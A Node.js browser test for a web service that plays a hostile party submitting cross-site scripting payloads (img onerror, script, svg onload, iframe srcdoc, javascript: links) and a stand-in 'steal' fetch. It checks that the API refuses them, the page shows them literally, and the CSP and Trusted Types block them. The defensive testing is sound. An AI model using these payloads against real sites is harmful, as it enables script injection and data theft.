// hostile.mjs - another party's text never runs in a party's page. Bravo, hostile, writes markup and script wherever the
// API takes text (sites' labels, messages' texts) and tries them wherever it takes names (aircraft, callsigns, object ids,
// party names, grantees, recipients: each refused, 400 with the pointer). Alpha's page, in headless Chromium, shows
// bravo's text literally, holds no element or script made from it, opens no dialog and reports no CSP violation from
// its own code; then the CSP and Trusted Types are shown to refuse what a forgotten line would do.
// usage: node web/tests/hostile.mjs BUILD_DIR   (starts BUILD_DIR/deconflictd --web web/dist on a free port)
import { spawn } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { createServer } from "node:net";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { chromium } from "playwright-core";

const root = dirname(dirname(dirname(fileURLToPath(import.meta.url))));
const build = process.argv[2] || join(root, "build/asan");
let passed = 0, failed = 0;
const check = (what, ok, detail = "") => { if (ok) passed++; else { failed++; console.log(`FAIL ${what} ${detail}`); } };
const equal = (what, expected, actual) => check(what, JSON.stringify(expected) === JSON.stringify(actual),
  `\n  expected: ${JSON.stringify(expected)}\n  actual:   ${JSON.stringify(actual)}`);

// What a hostile party writes: each would run, open a dialog, or leave an element behind if parsed as markup.
const PAYLOADS = [
  `<img src=x onerror="window.__pwned='img';alert('img')">`,
  `<script>window.__pwned='script';alert('script')</script>`,
  `<svg onload="window.__pwned='svg';alert('svg')"></svg>`,
  `<iframe srcdoc="<script>parent.alert('iframe')</script>"></iframe>`,
  `"><dcx-evil id="dcx-pwned" onclick="alert('click')">x</dcx-evil><"`,
  `<a href="javascript:alert('href')">a link</a>`,
  `<style>body{display:none}</style><b>bold</b>`,
  `</span></q></li><li>a forged list item</li>`,
];
const MESSAGE = "Hostile text, one payload a line:\n" + PAYLOADS.join("\n");

const port = await new Promise((res) => { const s = createServer().listen(0, "127.0.0.1", () => { const p = s.address().port; s.close(() => res(p)); }); });
const work = mkdtempSync(join(tmpdir(), "dc-hostile-"));
const server = spawn(join(build, "deconflictd"), ["--listen", `127.0.0.1:${port}`, "--db", join(work, "db"),
  "--operator-key-file", join(work, "operator.key"), "--web", join(root, "web/dist"), "--establish-seconds", "1", "--quiet"],
  { stdio: ["ignore", "ignore", "pipe"] });
let serverLog = "";
server.stderr.on("data", (d) => { serverLog += d; });
const base = `http://127.0.0.1:${port}`;
process.on("exit", () => server.kill("SIGKILL")); // only if the test itself broke: it stops the server below
let browser = null;
for (let i = 0; ; i++) {
  try { if ((await fetch(base + "/v1/health")).status === 200) break; } catch { /* not yet listening */ }
  if (i > 200) throw new Error("deconflictd did not start:\n" + serverLog);
  await new Promise((r) => setTimeout(r, 50));
}
const operator = readFileSync(join(work, "operator.key"), "utf8").trim();

async function run() {

  async function call(method, path, key, body, headers = {}) {
    const h = Object.assign({}, key ? { Authorization: "Bearer " + key } : {}, body !== undefined ? { "Content-Type": "application/json" } : {}, headers);
    const r = await fetch(base + path, { method, headers: h, body: body === undefined ? undefined : typeof body === "string" ? body : JSON.stringify(body) });
    const text = await r.text();
    let doc = text;
    try { doc = JSON.parse(text); } catch { /* not JSON */ }
    return { status: r.status, doc, text };
  }
  const party = async (name) => (await call("POST", "/v1/parties", operator, { name })).doc.key;
  const alpha = await party("alpha"), bravo = await party("bravo");

  // 1. Where the API takes names, markup is refused with the pointer, and the refusal does not echo it.
  const now = Date.now();
  const at = (s) => new Date(now + s * 1000).toISOString().replace(/\.\d+Z$/, "Z");
  const report = (aircraft, s, lon, extra = {}) => Object.assign({ aircraft, time: at(s), position: `36.2N ${lon.toFixed(5)}E`, altitude: 5000,
    ground_speed: 200, track: 90 }, extra);
  const square = ["36.0N 37.0E", "36.0N 37.1E", "36.1N 37.1E", "36.1N 37.0E"];
  const volume = { outline_polygon: { vertices: square }, altitude_lower: 0, altitude_upper: 1000, time_start: at(-3600), time_end: at(3600) };
  const refusals = [];
  for (const [i, p] of PAYLOADS.entries()) {
    refusals.push([`aircraft ${i}`, "POST", "/v1/tracks", bravo, [report(p, -60, 37)], "/0/aircraft"]);
    refusals.push([`callsign ${i}`, "POST", "/v1/tracks", bravo, [report("B0B0B0", -60, 37, { callsign: p })], "/0/callsign"]);
    refusals.push([`report intent ${i}`, "POST", "/v1/tracks", bravo, [report("B0B0B0", -60, 37, { intent: p })], "/0/intent"]);
    refusals.push([`intent id ${i}`, "PUT", `/v1/intents/${encodeURIComponent(p)}`, bravo, { priority: 1, volumes: [volume] }, undefined]);
    refusals.push([`grantee ${i}`, "POST", "/v1/grants", bravo, { grantee: p, kind: "site" }, "/grantee"]);
    refusals.push([`message recipient ${i}`, "POST", "/v1/messages", bravo, { to: p, text: "x", coordinates: ["36.05N 37.05E"] }, "/to"]);
    refusals.push([`message coordinate ${i}`, "POST", "/v1/messages", bravo, { to: "alpha", text: "x", coordinates: ["36.05N 37.05E " + p] }, "/coordinates/0"]);
    refusals.push([`zone admitting ${i}`, "PUT", "/v1/zones/bz", bravo, { volumes: [volume], admitted: [p] }, "/admitted/0"]);
    refusals.push([`party name ${i} (the operator)`, "POST", "/v1/parties", operator, { name: p }, "/name"]);
  }
  for (const [what, method, path, key, body, pointer] of refusals) {
    const r = await call(method, path, key, body);
    equal(`bravo's ${what} with markup: 400 and pointer`, [400, pointer], [r.status, r.doc && r.doc.pointer]);
    check(`bravo's ${what}: the refusal does not echo it`, PAYLOADS.every((p) => !r.text.includes(p)), r.text.slice(0, 200));
  }
  const noTrack = await call("GET", "/v1/tracks", bravo);
  equal("none of bravo's refused aircraft was stored", [], noTrack.doc.items);

  // 2. Where the API takes text, bravo writes markup: sites' labels (granted to alpha) and messages to alpha.
  for (const [i, p] of PAYLOADS.entries()) {
    const r = await call("PUT", `/v1/sites/bsite-${i}`, bravo, { label: p, location: `${(36.5 + 0.3 * i).toFixed(1)}N 39.5E`, radius: 2000,
      time_start: at(-3600), time_end: at(3600) });
    equal(`bravo's site ${i} with a label of markup is taken`, 201, r.status);
  }
  equal("bravo grants its sites to alpha", 201, (await call("POST", "/v1/grants", bravo, { grantee: "alpha", kind: "site" })).status);
  equal("bravo's message of markup to alpha is taken", 201,
    (await call("POST", "/v1/messages", bravo, { to: "alpha", text: MESSAGE, coordinates: ["36.05N 37.05E"] })).status);
  equal("and another, one payload alone", 201,
    (await call("POST", "/v1/messages", bravo, { to: "alpha", text: PAYLOADS[0], coordinates: ["36.1N 37.1E"] })).status);

  // 3. Bravo's aircraft near alpha's: once both are established, alpha is told of bravo's aircraft by name.
  for (let k = 0; k < 4; k++) {
    const t = -40 + 5 * k;
    await call("POST", "/v1/tracks", alpha, [report("A1B2C3", t, 38.0 + 0.01 * k)]);
    await call("POST", "/v1/tracks", bravo, [report("b0b0b0", t, 38.02 + 0.01 * k)]);
    await new Promise((r) => setTimeout(r, 400));
  }

  // 4. Alpha's page.
  browser = await chromium.launch({ executablePath: "/usr/bin/chromium", headless: true,
    args: ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
           "--disable-component-update", "--disable-sync"] });
  const context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
  const page = await context.newPage();
  const dialogs = [], consoleLines = [], violations = [], pageErrors = [];
  page.on("dialog", (d) => { dialogs.push(`${d.type()}: ${d.message()}`); d.dismiss().catch(() => {}); });
  page.on("console", (m) => consoleLines.push(`${m.type()}: ${m.text()}`));
  page.on("pageerror", (e) => pageErrors.push(e.message));
  // The browser's own report of each violation, passed out through a binding (injected by DevTools, which the page's
  // CSP does not govern) so that none is lost to a page that stops running.
  await page.exposeBinding("dcViolation", (_, v) => { violations.push(v); });
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (e) =>
      window.dcViolation({ directive: e.violatedDirective, blocked: e.blockedURI, sample: e.sample, source: e.sourceFile, line: e.lineNumber }));
  });
  const response = await page.goto(base + "/", { waitUntil: "load" });
  const policy = response.headers()["content-security-policy"] || "";
  check("the page comes with its CSP, no inline script or style", policy.includes("script-src 'self'") && policy.includes("style-src 'self'")
    && policy.includes("frame-ancestors 'none'") && !policy.includes("unsafe"), policy);
  await page.fill("#key", alpha);
  await page.click("#sign-in button");
  await page.waitForSelector("body[data-ready='1']", { timeout: 10000, state: "attached" });
  await page.waitForSelector("#messages > li", { timeout: 5000, state: "attached" });
  const shown = await page.evaluate(() => ({
    sites: [...document.querySelectorAll("#hazards li[data-owner='bravo']")].map((li) => li.textContent),
    messages: [...document.querySelectorAll("#messages > li q")].map((q) => q.textContent),
    messageMarkup: [...document.querySelectorAll("#messages > li q")].map((q) => q.childElementCount),
    siteMarkup: [...document.querySelectorAll("#hazards li")].map((li) => li.childElementCount),
  }));
  equal("alpha's page lists each of bravo's sites", PAYLOADS.length, shown.sites.length);
  for (const [i, p] of PAYLOADS.entries())
    check(`bravo's label ${i} is shown literally`, shown.sites.some((t) => t.endsWith(": " + p)), JSON.stringify(shown.sites));
  equal("bravo's messages are shown literally, byte for byte", [MESSAGE, PAYLOADS[0]].sort(), [...shown.messages].sort());
  check("no element inside a message's text or a site's item", shown.messageMarkup.every((n) => n === 0) && shown.siteMarkup.every((n) => n === 0),
    JSON.stringify(shown));

  // Each site's tooltip on the map: its label as text inside the page's one span.
  for (const i of PAYLOADS.keys()) {
    await page.mouse.move(5, 5);
    await page.click(`#hazards li[data-id='bsite-${i}']`);
    await page.waitForTimeout(400); // fitBounds animates
    const box = await page.locator("#map").boundingBox();
    const tip = page.locator(".leaflet-tooltip:not(.dc-disclosed-label)"); // not the permanent labels of alerts' aircraft
    for (let tries = 0; tries < 10 && !(await tip.count()); tries++) {
      await page.mouse.move(box.x + box.width / 2 + tries, box.y + box.height / 2);
      await page.waitForTimeout(100);
    }
    const t = await tip.count() ? await tip.first().evaluate((el) => ({ text: el.textContent, elements: [...el.querySelectorAll("*")].map((e) => e.tagName) })) : null;
    check(`bravo's site ${i} has a tooltip on alpha's map`, t !== null);
    if (t) {
      check(`its tooltip shows label ${i} literally`, t.text.endsWith(": " + PAYLOADS[i]), t.text);
      equal(`its tooltip holds only the page's span`, ["SPAN"], t.elements);
    }
  }

  // Bravo's aircraft, by name, in alpha's alerts.
  await page.waitForFunction(() => [...document.querySelectorAll("#alerts li")].some((li) => li.textContent.includes("Bravo's B0B0B0")),
    null, { timeout: 5000 }).then(() => check("alpha is told of bravo's aircraft B0B0B0 by name, as text", true),
    () => check("alpha is told of bravo's aircraft B0B0B0 by name, as text", false));

  const dom = await page.evaluate((scripts) => ({
    planted: document.querySelectorAll("dcx-evil, #dcx-pwned, iframe, object, embed, img, style, b, a[href^='javascript'], [srcdoc]").length,
    handlers: [...document.querySelectorAll("*")].filter((e) => [...e.attributes].some((a) => a.name.toLowerCase().startsWith("on")))
      .map((e) => e.outerHTML.slice(0, 80)),
    scripts: [...document.scripts].map((s) => s.getAttribute("src")),
    forged: [...document.querySelectorAll("li")].filter((li) => li.textContent === "a forged list item").length,
    pwned: window.__pwned === undefined ? null : String(window.__pwned),
    hidden: getComputedStyle(document.body).display,
  }));
  equal("no element planted by bravo's text exists in alpha's DOM", 0, dom.planted);
  equal("no element carries an event handler", [], dom.handlers);
  equal("the only scripts are the page's own files", ["policy.js", "vendor/leaflet.js", "vendor/topojson-client.min.js", "words.js", "picture.js", "app.js"], dom.scripts);
  equal("no list item was forged", 0, dom.forged);
  equal("no payload ran", null, dom.pwned);
  check("no payload's style applied", dom.hidden !== "none", dom.hidden);
  equal("no dialog opened", [], dialogs);
  equal("no page error", [], pageErrors);
  const cspLines = consoleLines.filter((l) => /Content Security Policy|Trusted Type|Refused to/i.test(l));
  equal("the page's own code causes no CSP or Trusted Types violation (console)", [], cspLines);
  equal("the page's own code causes no CSP or Trusted Types violation (events)", [], violations);

  // 5. The controls: what a forgotten line would do is refused, and reported where the checks above look.
  const control = await page.evaluate(async () => {
    const out = {};
    try { document.querySelector("#messages").insertAdjacentHTML("beforeend", "<img src=x onerror=\"alert('tt')\">"); out.markup = "written"; }
    catch (e) { out.markup = e.name; }
    try { const s = document.createElement("script"); s.textContent = "window.__inline = 1"; document.body.appendChild(s); } catch (e) { out.scriptError = e.name; }
    out.inline = window.__inline === undefined ? null : window.__inline;
    try { await fetch("http://example.invalid/steal"); out.fetch = "sent"; } catch (e) { out.fetch = e.name; }
    const img = new Image();
    out.image = await new Promise((res) => { img.onload = () => res("loaded"); img.onerror = () => res("refused"); img.src = "http://example.invalid/p.png"; });
    const probe = document.createElement("span");
    document.body.appendChild(probe);
    probe.setAttribute("style", "display: none");
    out.inlineStyle = getComputedStyle(probe).display;
    probe.remove();
    return out;
  });
  await page.waitForTimeout(300);
  equal("a string written as markup is refused by Trusted Types", "TypeError", control.markup);
  equal("an inline script does not run", null, control.inline);
  equal("a fetch to another origin is refused", "TypeError", control.fetch);
  equal("an image from another origin is refused", "refused", control.image);
  check("an inline style is not applied", control.inlineStyle !== "none", control.inlineStyle);
  const directives = new Set(violations.map((v) => v.directive));
  check("and each is reported as a violation", ["require-trusted-types-for", "connect-src", "img-src"].every((d) => directives.has(d)) &&
    [...directives].some((d) => d.startsWith("style-src")), JSON.stringify(violations));
  check("and in the console", consoleLines.some((l) => /Content Security Policy|Trusted Type/i.test(l)));
  equal("still no dialog", [], dialogs);
}

try {
  await run();
} catch (e) {
  check("the test runs to its end", false, e.stack);
} finally {
  if (browser) await browser.close().catch(() => {});
  const exited = new Promise((r) => server.on("exit", r));
  server.kill("SIGTERM");
  await exited;
}
check("deconflictd stops cleanly (no sanitizer report)", !/AddressSanitizer|runtime error|LeakSanitizer/.test(serverLog), serverLog.slice(-2000));
rmSync(work, { recursive: true, force: true });
console.log(`hostile: ${passed} passed, ${failed} failed`);
process.exit(failed ? 1 : 0);
